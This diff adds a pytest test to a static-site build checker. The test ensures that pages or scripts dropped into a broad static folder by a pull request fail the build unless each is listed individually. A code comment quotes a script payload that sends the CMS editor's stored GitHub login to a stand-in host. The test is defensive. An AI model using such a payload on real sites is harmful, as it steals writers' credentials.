@@ -2483,3 +2483,31 @@ def test_a_file_hard_linked_from_outside_content_is_refused_one_hard_linked_insi
     os.unlink(private)
     assert _build().exit_code == 0
     assert (project / "output" / "media" / "images" / "team.jpg").is_file()
+
+
+@pytest.mark.parametrize("name", ["inlog.html", "x.xhtml", "app.js", "feed.xsl"])
+def test_a_page_or_script_in_a_static_folder_is_published_only_when_named(project, name):
+    # STATIC_PATHS = ["brand", "extra"] copied whatever a pull request put in
+    # content/extra/ as it is: extra/inlog.html, "<script>fetch('//x/?' +
+    # localStorage['decap-cms-user'])</script>", was served on the hub's own
+    # address, where the editor (/admin/) keeps the writer's GitHub login; brand/
+    # refused such files since 5495b0aa, the other static folders did not.
+    conf = project / "pelicanconf.py"
+    base = conf.read_text("utf-8") + 'STATIC_PATHS = ["brand", "extra"]\n'
+    conf.write_text(base, "utf-8")
+    (project / "content" / "extra").mkdir()
+    (project / "content" / "extra" / name).write_text("<script>alert(1)</script>\n", "utf-8")
+    (project / "content" / "extra" / "CNAME").write_text("werkenbij.example.nl\n", "utf-8")
+    result = _build()
+    assert result.exit_code == 1, result.output
+    assert result.output.splitlines() == [
+        f"content/extra/{name}: error: static file is a page or script a browser runs on the "
+        "hub's own address, where the editor keeps the writer's login, and a folder of "
+        "STATIC_PATHS takes whatever a pull request adds to it: name it in STATIC_PATHS by "
+        f'itself ("extra/{name}") if the hub means to publish it'
+    ]
+    # Named by itself (or given a path of its own), it is the settings' choice.
+    conf.write_text(base.replace('"extra"]', f'"extra", "extra/{name}"]'), "utf-8")
+    assert _build().exit_code == 0
+    assert (project / "output" / "extra" / name).is_file()
+    assert (project / "output" / "extra" / "CNAME").is_file()
